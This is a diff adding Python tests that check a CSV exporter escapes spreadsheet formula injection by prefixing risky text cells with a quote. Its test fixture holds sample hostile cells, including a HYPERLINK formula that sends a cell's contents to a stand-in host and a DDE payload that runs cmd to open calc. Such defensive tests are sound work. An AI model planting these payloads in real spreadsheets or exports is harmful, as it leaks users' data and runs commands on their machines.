@@ -73,3 +73,42 @@ def test_an_empty_table_is_a_bom_and_a_header(tmp_path: Path) -> None:
 
 def test_cells_for_the_cli() -> None:
     assert cells_csv(["a", "b"], [["1", "x,y"], ["", "区"]]) == '\ufeffa,b\n1,"x,y"\n,区\n'
+
+
+# A station list from another bureau, as the assessment loaded it (finding F2): its text cells
+# get a ' in front so no spreadsheet runs them; numbers, times and booleans stay as they are.
+HOSTILE = pa.table(
+    {
+        "name": ['=HYPERLINK("http://e.example/?d="&A1,"看")', "@SUM(1+1)*cmd|' /C calc'!A0"],
+        "name_en": ["+1+1", "-5"],
+        "lon": [-116.5, 116.48],
+        "n": [-3, 4],
+        "ok": [True, False],
+        "time": pa.array(TIMES, pa.timestamp("us", tz="Asia/Shanghai")),
+    }
+)
+HOSTILE_CSV = (
+    '\ufeff"name","name_en","lon","n","ok","time"\n'
+    '"\'=HYPERLINK(""http://e.example/?d=""&A1,""看"")","\'+1+1",-116.5,-3,true,'
+    '"2016-01-01T00:00:00+08:00"\n'
+    '"\'@SUM(1+1)*cmd|\' /C calc\'!A0","-5",116.48,4,false,"2016-01-01T00:00:00.500000+08:00"\n'
+)
+
+
+def test_text_cells_that_a_spreadsheet_would_run_get_a_quote() -> None:
+    assert csv_bytes(HOSTILE).decode("utf-8") == HOSTILE_CSV
+
+
+def test_a_batch_reader_escapes_every_batch(tmp_path: Path) -> None:
+    reader = pa.RecordBatchReader.from_batches(HOSTILE.schema, HOSTILE.to_batches(max_chunksize=1))
+    assert write_csv(reader, tmp_path / "r.csv").read_text("utf-8") == HOSTILE_CSV
+
+
+def test_data_frame_text_cells_and_names_escaped() -> None:
+    df = pd.DataFrame({"=x": ["-1+1", "-5", None], "v": [-2.5, 1.0, 3.0]})
+    assert csv_bytes(df).decode("utf-8") == "\ufeff'=x,v\n'-1+1,-2.5\n-5,1.0\n,3.0\n"
+
+
+def test_cli_cells_escaped_numbers_kept() -> None:
+    got = cells_csv(["=a", "b"], [["@x", "-3.5"], ["-1+1", "ok"]])
+    assert got == "\ufeff'=a,b\n'@x,-3.5\n'-1+1,ok\n"
